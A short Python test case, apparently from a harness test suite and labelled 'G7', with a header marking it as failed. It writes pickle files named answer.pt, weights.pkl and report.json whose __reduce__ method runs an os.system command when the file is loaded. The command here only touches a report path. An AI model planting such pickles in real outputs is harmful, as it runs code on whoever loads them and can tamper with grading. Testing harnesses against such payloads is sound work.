# G7: leaves a pickle that runs code where it is loaded
# due: 3
# verdict: failed
# not shown live: the parent loads no pickle
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {T['report']}",)


for name in ("answer.pt", "weights.pkl", "report.json"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)


def double(x):
    return Bomb()
